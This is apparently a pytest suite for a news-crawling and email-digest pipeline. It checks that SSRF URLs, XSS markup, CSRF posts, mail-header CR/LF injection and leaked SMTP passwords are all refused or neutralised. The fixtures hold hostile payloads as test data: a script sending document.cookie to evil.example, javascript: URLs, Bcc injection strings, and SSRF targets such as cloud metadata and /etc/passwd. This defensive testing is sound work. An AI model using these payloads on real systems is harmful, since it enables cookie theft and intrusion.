"""Security across the pipeline: SSRF through manual URLs and redirects, hostile markup from crawled pages
through the review page and the digest, CSRF, CR/LF in mail headers, and secrets that never reach a log,
an artifact or a file under PLANWATCH_HOME. (Component-level guards have their own tests in tests/crawl,
tests/review and tests/digest; these run the whole way through.)"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import uuid
from collections.abc import Iterator
from email import policy
from email.parser import BytesParser
from pathlib import Path
from typing import Any

import pytest
from starlette.testclient import TestClient

from crawlers.manual import add_manual_urls, queue_path
from crawlers.registry import load_sources
from pipeline.bootstrap import initialize
from pipeline.digest import build_and_write_digest
from pipeline.digest.mail import build_message
from pipeline.digest.send import SmtpConfigError, SmtpSettings
from pipeline.journal import read_decisions
from pipeline.review.overlay import queue_id
from pipeline.review.web.app import create_app
from pipeline.store import open_writer
from planwatch.config import Paths
from tests.crawl.helpers import write_sources
from tests.digest.conftest import NOW, WEEK, at, seed_week_w37
from tests.faults import servers as S
from tests.faults.harness import nightly, record, stored
from tests.review.auth import login
from tests.support.net import free_port
from tests.support.warehouse import PLAN_ID, classification, document

REPO = Path(__file__).resolve().parents[2]
PLANWATCH = Path(sys.executable).with_name("planwatch")


# -- SSRF ------------------------------------------------------------------------------------------------

class Redirector(S.FaultSite):
    """A source (allowed to live on 127.0.0.1, like a mirror) whose articles redirect to forbidden places."""

    fault = "redirector"
    bad_article = False
    TARGETS = ("http://169.254.169.254/latest/meta-data/iam", "file:///etc/passwd", "gopher://127.0.0.1:70/_x",
               "http://[fe80::1]/x", "http://0.0.0.0:80/x")

    def items(self) -> list[tuple[str, str]]:
        return [(S.GOOD_PATH, "ok")] + [(f"/tin-tuc/chuyen-huong-so-{i}.html", "r") for i in range(len(self.TARGETS))]

    def other(self, h: S.Handler) -> None:
        if h.path.startswith("/tin-tuc/chuyen-huong-so-"):
            i = int(h.path.rsplit("-", 1)[1].split(".")[0])
            h.reply(302, b"", headers={"Location": self.TARGETS[i]})
        else:
            h.reply(404, b"not found")


def test_ssrf_manual_urls_are_refused_at_queue_and_fetch_time(home: Paths, tmp_path: Path) -> None:
    with S.OtherHost() as victim:
        hostile = [victim.base + "/tin-tuc/bi-mat-noi-bo.html", f"http://[::1]:{victim.port}/x",
                   "http://169.254.169.254/latest/meta-data/", "file:///etc/passwd", "gopher://127.0.0.1:70/_x",
                   f"http://localhost:{victim.port}/y", "http://10.0.0.1/z"]
        sources = write_sources(tmp_path / "sources.toml", [{
            "id": "public", "homepage": "http://nonexistent.invalid/", "feeds": ["http://nonexistent.invalid/rss"],
            "allow_private": False}])
        added, problems = add_manual_urls(home.home, hostile, list(load_sources(sources)))
        assert added == [] and len(problems) == len(hostile)

        # A queue written behind the check's back (hand-edited, or a name that resolved elsewhere then)
        # is checked again when the crawl fetches it.
        path = queue_path(home.home)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("".join(json.dumps({"url": u, "source_id": None}) + "\n" for u in hostile), encoding="utf-8")
        initialize(home, str(sources))
        nightly(home, sources)
        s = stored(home)
    assert victim.hits == {}, "a loopback service was reached"
    assert s.documents == []
    manual = [f for f in s.fetch_log if f["url"] in hostile]
    assert {f["url"] for f in manual} == set(hostile)
    assert all((f["error"] or "").startswith("refused") and f["status"] is None for f in manual), manual
    record("ssrf-manual", fault="ssrf-manual", survived=True, runs=1, refused=len(manual), rows_lost=0, duplicates=0)


def test_ssrf_through_redirects(home: Paths, tmp_path: Path) -> None:
    with Redirector() as site:
        sources = write_sources(tmp_path / "sources.toml", [site.source()])
        initialize(home, str(sources))
        nightly(home, sources)
        s = stored(home)
    assert [d["url"] for d in s.documents] == [site.base + S.GOOD_PATH]
    for target in Redirector.TARGETS:
        hops = [f for f in s.fetch_log if f["url"] == target]
        assert hops and all((f["error"] or "").startswith("refused") for f in hops), (target, hops)
    assert not any("root:" in (d["text"] or "") for d in s.documents)
    record("ssrf-redirect", fault="ssrf-redirect", survived=True, runs=1, refused=len(Redirector.TARGETS),
           rows_lost=0, duplicates=0)


# -- hostile markup through the review page and the digest ----------------------------------------------

XSS_TITLE = 'Đề án 33 "><img src=x onerror=alert(1)><script>alert("t")</script>'
XSS_TEXT = "Giáo viên mầm non <script>fetch('//evil.example/'+document.cookie)</script> <svg onload=alert(2)>"
JS_URLS = ("javascript:alert(document.cookie)", "JaVaScRiPt:alert(1)", " javascript:alert(1)",
           "data:text/html,<script>alert(1)</script>")


@pytest.fixture
def hostile_home(home: Paths) -> Paths:
    """The digest tests' week 2022-W37 plus accepted and queued items carrying hostile titles, bodies, URLs."""
    seed_week_w37(home)
    docs, classes = [], []
    for i, url in enumerate(JS_URLS):
        accepted, queued = f"x-acc-{i}", f"x-rev-{i}"
        docs += [document(accepted, "2022-09-13", title=XSS_TITLE, text=XSS_TEXT, url=url, source_id="vnexpress"),
                 document(queued, "2022-09-14", title=XSS_TITLE, text=XSS_TEXT, url=url, source_id="vnexpress")]
        classes += [classification(accepted, "2b", "accept", at=at("2022-09-13", 21)),
                    classification(queued, "2b", "review", score=0.5, at=at("2022-09-14", 21))]
    with open_writer(home) as writer:
        writer.insert("documents", docs, on_conflict="replace")
        writer.insert("classifications", classes)
    return home


def _hrefs(html: str) -> list[str]:
    return re.findall(r"""(?:href|src|action)\s*=\s*["']?([^"'\s>]*)""", html, flags=re.I)


def _assert_inert(html: str, allowed_schemes: tuple[str, ...]) -> None:
    low = html.lower()
    assert "<img src=x" not in low and "<svg" not in low
    assert "<script>alert" not in low and "<script>fetch" not in low
    assert not re.search(r"<[a-z][^>]*\son(error|load)\s*=", low)  # no live event-handler attribute
    for ref in _hrefs(html):
        ref_low = ref.strip().lower()
        assert not ref_low.startswith(("javascript:", "data:text", "vbscript:")), ref
        if ":" in ref_low.split("/")[0]:
            assert ref_low.startswith(allowed_schemes), ref


def test_xss_payloads_are_inert_in_the_review_page(hostile_home: Paths) -> None:
    app = create_app(hostile_home, background_sync=False)
    with TestClient(app, base_url="http://127.0.0.1:8787") as client:
        login(client, hostile_home)
        pages = [client.get("/")] + [client.get(f"/item/{queue_id(f'x-rev-{i}', PLAN_ID)}")
                                     for i in range(len(JS_URLS))]
        for page in pages:
            assert page.status_code == 200
            body = page.text.replace('<script src="/static/review.js" defer></script>', "")
            assert "<script" not in body.lower()
            _assert_inert(body, ("http://", "https://"))
        assert "&lt;script&gt;alert(&#34;t&#34;)&lt;/script&gt;" in pages[1].text or \
            "&lt;script&gt;alert(&quot;t&quot;)&lt;/script&gt;" in pages[1].text


def test_xss_payloads_are_inert_in_the_digest(hostile_home: Paths, tmp_path: Path) -> None:
    files = build_and_write_digest(hostile_home, PLAN_ID, WEEK, tmp_path / "digest", now=NOW)
    msg = BytesParser(policy=policy.default).parse(files.eml.open("rb"))
    html_part = msg.get_body(preferencelist=("html",))
    assert html_part is not None
    html = html_part.get_content()
    assert "onerror" in html or "&lt;img" in html  # the hostile item is in the digest, escaped
    assert "<script" not in html.lower()
    _assert_inert(html, ("http://", "https://", "cid:", "mailto:"))
    for path in files.all():
        if path.suffix == ".html":
            allowed = ("http://", "https://", "cid:", "mailto:", "data:image/png")
            _assert_inert(path.read_text(encoding="utf-8"), allowed)
    text_part = msg.get_body(preferencelist=("plain",))
    assert text_part is not None and "javascript:" not in text_part.get_content().lower()


def test_csrf_post_without_token_is_refused(hostile_home: Paths) -> None:
    before = read_decisions(hostile_home.review_journal)
    app = create_app(hostile_home, background_sync=False)
    with TestClient(app, base_url="http://127.0.0.1:8787") as client:
        login(client, hostile_home)
        url = f"/item/{queue_id('x-rev-0', PLAN_ID)}/decide"
        assert client.post(url, data={"action": "confirm", "reviewer": "Lan"}).status_code == 403
        cross = client.post(url, data={"action": "confirm", "reviewer": "Lan", "csrf": "x" * 43},
                            headers={"Origin": "http://evil.example"})
        assert cross.status_code == 403
    assert read_decisions(hostile_home.review_journal) == before


# -- CR/LF in mail headers -------------------------------------------------------------------------------

def test_crlf_never_injects_mail_headers() -> None:
    msg = build_message(subject="Bản tin\r\nBcc: evil@example.com\r\n\r\nbody", text="t", html="<p>h</p>",
                        png=None, content_id=None)
    raw = msg.as_bytes()
    head = raw.split(b"\n\n", 1)[0]
    assert b"\nBcc:" not in head and b"\rBcc:" not in head
    assert "\n" not in str(msg["Subject"]) and "\r" not in str(msg["Subject"])
    for bad in ("lan@example.org\r\nBcc: evil@example.com", "lan@example.org\nRCPT TO:<evil@example.com>"):
        env = {"PLANWATCH_SMTP_HOST": "127.0.0.1", "PLANWATCH_SMTP_TLS": "none", "PLANWATCH_DIGEST_TO": bad}
        with pytest.raises(SmtpConfigError):
            SmtpSettings.from_env(env)
        with pytest.raises(SmtpConfigError):
            SmtpSettings.from_env({**env, "PLANWATCH_DIGEST_TO": "lan@example.org", "PLANWATCH_DIGEST_FROM": bad})


# -- secrets ---------------------------------------------------------------------------------------------

class _FailingAuth:
    def __init__(self) -> None:
        self.attempts = 0

    def __call__(self, server: Any, session: Any, envelope: Any, mechanism: str, auth_data: Any) -> Any:
        from aiosmtpd.smtp import AuthResult

        self.attempts += 1
        return AuthResult(success=False, handled=False)


@pytest.fixture
def failing_smtp() -> Iterator[tuple[int, _FailingAuth]]:
    from aiosmtpd.controller import Controller
    from aiosmtpd.handlers import Sink

    auth = _FailingAuth()
    port = free_port()
    controller = Controller(Sink(), hostname="127.0.0.1", port=port, authenticator=auth, auth_require_tls=False)
    controller.start()
    try:
        yield port, auth
    finally:
        controller.stop()


def _grep_tree(root: Path, marker: bytes) -> list[str]:
    hits = []
    for path in root.rglob("*"):
        if path.is_file() and not path.is_symlink():
            try:
                data = path.read_bytes()
            except OSError:
                continue
            if marker in data:
                hits.append(str(path.relative_to(root)))
    return hits


def test_secrets_come_from_the_environment_and_are_never_written(hostile_home: Paths, tmp_path: Path,
                                                                 failing_smtp: tuple[int, _FailingAuth]) -> None:
    port, auth = failing_smtp
    marker = f"pw-marker-{uuid.uuid4().hex}"
    env = {**os.environ, "PLANWATCH_HOME": str(hostile_home.home), "PYTHONPATH": str(REPO),
           "PLANWATCH_SMTP_HOST": "127.0.0.1", "PLANWATCH_SMTP_PORT": str(port), "PLANWATCH_SMTP_TLS": "none",
           "PLANWATCH_SMTP_USER": "bot", "PLANWATCH_SMTP_PASSWORD": marker, "PLANWATCH_SMTP_ATTEMPTS": "2",
           "PLANWATCH_SMTP_BACKOFF": "0.01", "PLANWATCH_DIGEST_TO": "lan@example.org",
           "PREFECT_SERVER_ANALYTICS_ENABLED": "false", "DO_NOT_TRACK": "1"}
    outputs = []
    sent = subprocess.run([str(PLANWATCH), "digest", "--week", WEEK, "--send"], env=env, capture_output=True,
                          text=True, timeout=120)
    outputs.append(sent.stdout + sent.stderr)
    assert sent.returncode != 0 and auth.attempts >= 1, sent.stderr  # the login was tried and refused
    assert "535" in sent.stderr or "auth" in sent.stderr.lower()

    with S.Healthy() as site:
        sources = write_sources(tmp_path / "sources.toml", [site.source()])
        crawl = subprocess.run([str(PLANWATCH), "crawl", "--sources", str(sources)], env=env, capture_output=True,
                               text=True, timeout=120)
        outputs.append(crawl.stdout + crawl.stderr)
        assert crawl.returncode == 0, crawl.stderr[-2000:]
        report = subprocess.run([str(PLANWATCH), "report", "--format", "json"], env=env, capture_output=True,
                                text=True, timeout=60)
        outputs.append(report.stdout + report.stderr)
        # The Prefect nightly flow (as `planwatch demo` and `serve` run it): its temporary API server keeps
        # its database, logs and artifacts in PREFECT_HOME, under PLANWATCH_HOME, so the scan covers them.
        flow_env = {k: v for k, v in env.items() if not k.startswith("PREFECT_")}
        flow_env["PREFECT_LOGGING_LEVEL"] = "INFO"
        flow = subprocess.run([sys.executable, "-c", (
            "from flows.prefect_env import configure_prefect\n"
            "configure_prefect()\n"
            "from flows.nightly import nightly_crawl\n"
            f"print(nightly_crawl(sources={str(sources)!r}, politeness='off')['run_id'])\n")],
            env=flow_env, cwd=REPO, capture_output=True, text=True, timeout=180)
        outputs.append(flow.stdout + flow.stderr)
        assert flow.returncode == 0, flow.stderr[-3000:]
        assert list(hostile_home.prefect_home.rglob("*")), "the flow's Prefect state is not under PLANWATCH_HOME"
    leaks = _grep_tree(hostile_home.home, marker.encode())
    assert leaks == [], f"the SMTP password was written to {leaks}"
    for out in outputs:
        assert marker not in out
    assert _grep_tree(REPO / "data", marker.encode()) == []  # data/ is in the repository: no vacuous pass
    record("secret-marker", fault="secret-marker", survived=True, runs=2,
           files_scanned=sum(1 for p in hostile_home.home.rglob("*") if p.is_file()), leaks=len(leaks))
